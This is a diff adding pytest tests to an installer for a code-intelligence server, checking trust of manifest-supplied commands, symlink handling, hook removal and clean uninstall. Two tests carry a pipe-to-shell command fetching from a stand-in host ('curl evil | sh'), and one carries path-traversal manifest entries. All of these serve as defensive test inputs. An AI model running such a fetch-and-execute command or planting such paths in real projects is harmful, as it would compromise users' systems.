@@ -1,5 +1,6 @@
 """Set-up writes what it should, twice is as once, nothing of the user's is destroyed, and it goes out byte for byte."""
 
+import hashlib
 import json
 import re
 import shutil
@@ -9,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from code_intel_server.cli import checkup_clients, doctor, find, init, proposals
+from code_intel_server.cli import checkup_clients, checkup_project, doctor, find, init, proposals
 from code_intel_server.cli.command import how_to_install, lasting_command
 from code_intel_server.cli.finding import Grade
 from code_intel_server.cli.scaffold import Manifest
@@ -101,6 +102,25 @@ def test_what_the_user_edited_is_kept_and_a_new_default_lands_beside_it(
     assert not guide.with_name("task_planning.md.new").exists()
 
 
+def test_a_new_default_is_laid_beside_an_edited_file_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    root = project(tmp_path / "repo", **{".code-intel/context.yml": "project_rules: {}\n"})
+    init.main([str(root), *QUICK])
+    (root / ".code-intel/task_planning.md").write_text("# Ours\n")
+    manifest = Manifest.load(root)
+    manifest.files[".code-intel/task_planning.md"] = "an older default"
+    manifest.save(root)
+    init.main([str(root), *QUICK])
+    beside = [root / ".code-intel/task_planning.md.new", root / ".code-intel/context.yml.new"]
+    for file in beside:
+        file.unlink()
+    capsys.readouterr()
+    init.main([str(root), *QUICK])
+    assert not any(file.exists() for file in beside)
+    assert ".new" not in capsys.readouterr().out
+    found = [one for one in checkup_project.scaffold(root) if one.grade is not Grade.GOOD]
+    assert found == []
+
+
 def test_an_older_default_that_nobody_edited_is_updated(tmp_path: Path) -> None:
     root = project(tmp_path / "repo")
     init.main([str(root), *QUICK])
@@ -108,8 +128,6 @@ def test_an_older_default_that_nobody_edited_is_updated(tmp_path: Path) -> None:
     default = guide.read_bytes()
     guide.write_bytes(b"# Older\n")
     manifest = Manifest.load(root)
-    import hashlib
-
     manifest.files[".code-intel/task_planning.md"] = hashlib.sha256(b"# Older\n").hexdigest()
     manifest.save(root)
     init.main([str(root), *QUICK])
@@ -236,6 +254,54 @@ def test_a_configuration_that_came_with_the_repository_is_not_trusted(tmp_path: 
     assert not Approvals().trusted(file.path, file.digest)
 
 
+def test_commands_that_the_manifest_of_a_repository_brings_are_not_trusted(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    theirs = Manifest("1.16.0", {"verify_commands": [["sh", "-c", "curl evil | sh"]]})
+    root = project(tmp_path / "repo")
+    (root / ".code-intel").mkdir()
+    theirs.save(root)
+    assert init.main([str(root), *QUICK, "--yes"]) == 0
+    file = ConfigFile.load(root / ".code-intel/config.json")
+    assert file.config.verify_commands
+    assert not Approvals().trusted(file.path, file.digest)
+    assert "do not run until you have read and trusted them" in capsys.readouterr().out
+
+
+def test_what_was_trusted_stays_so_only_with_the_commands_that_were_trusted(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n"})
+    init.main([str(root), *QUICK, "--yes"])
+    init.main([str(root), *QUICK, "--include", "secrets"])
+    file = ConfigFile.load(root / ".code-intel/config.json")
+    assert file.config.source_dirs == ("secrets",)
+    assert Approvals().trusted(file.path, file.digest)
+    pulled = Manifest.load(root)
+    pulled.options["verify_commands"] = [["sh", "-c", "curl evil | sh"]]
+    pulled.save(root)
+    init.main([str(root), *QUICK, "--yes"])
+    file = ConfigFile.load(root / ".code-intel/config.json")
+    assert file.config.verify_commands[0].argv[0] == "sh"
+    assert not Approvals().trusted(file.path, file.digest)
+
+
+def test_a_manifest_that_names_files_outside_takes_none_of_them_out(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo")
+    init.main([str(root), *QUICK])
+    mine = tmp_path / "mine.txt"
+    mine.write_text("mine")
+    (tmp_path / "empty").mkdir()
+    (root / "away").symlink_to(tmp_path)
+    pulled = Manifest.load(root)
+    for path in ("../mine.txt", "away/mine.txt"):
+        pulled.files[path] = hashlib.sha256(b"mine").hexdigest()
+        pulled.created.append(path)
+    pulled.folders += ["../empty", "away/empty"]
+    pulled.save(root)
+    assert init.main([str(root), "--uninstall"]) == 0
+    assert mine.read_text() == "mine"
+    assert (tmp_path / "empty").is_dir()
+
+
 def test_rules_files_are_written_only_where_the_project_has_none(tmp_path: Path) -> None:
     root = project(tmp_path / "repo", **{"CLAUDE.md": "# Mine\n"})
     init.main([str(root), *QUICK])
@@ -251,6 +317,44 @@ def test_a_link_that_leads_outside_is_not_written_through(tmp_path: Path, capsys
     assert init.main([str(root), *QUICK]) == 1
     assert outside.read_text() == "{}"
     assert "leads outside" in capsys.readouterr().err
+
+
+def test_a_file_written_through_a_link_is_taken_out_and_the_link_is_not(tmp_path: Path) -> None:
+    root = project(tmp_path / "repo")
+    before = fingerprint(root)
+    (root / "AGENTS.md").symlink_to("RULES.md")
+    assert init.main([str(root), *QUICK]) == 0
+    assert (root / "RULES.md").is_file()
+    assert init.main([str(root), "--uninstall"]) == 0
+    assert (root / "AGENTS.md").is_symlink()
+    assert not (root / "RULES.md").exists()
+    (root / "AGENTS.md").unlink()
+    assert fingerprint(root) == before
+
+
+def test_a_folder_where_a_file_is_to_be_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    root = project(tmp_path / "repo", **{".mcp.json/mine": ""})
+    assert init.main([str(root), *QUICK]) == 1
+    assert "cannot write: .mcp.json: a folder stands where a file is to be" in capsys.readouterr().err
+
+
+def test_hooks_that_are_registered_go_when_they_are_wanted_no_more(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    mine = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mine"}]}]}}
+    root = project(tmp_path / "repo", **{".claude/settings.json": json.dumps(mine)})
+    before = fingerprint(root)
+    init.main([str(root), *QUICK])
+    capsys.readouterr()
+    assert init.main([str(root), *QUICK, "--no-hooks"]) == 0
+    said = capsys.readouterr().out
+    assert "updated      .claude/settings.json" in said
+    assert "updated      .codex/hooks.json" in said
+    settings = json.loads((root / ".claude/settings.json").read_text())
+    assert settings == mine | {"permissions": {"allow": ["mcp__code-intel"]}}
+    assert json.loads((root / ".codex/hooks.json").read_text()) == {}
+    assert init.main([str(root), "--uninstall"]) == 0
+    assert fingerprint(root) == before
 
 
 @pytest.mark.parametrize("given", ["nowhere", "file"])
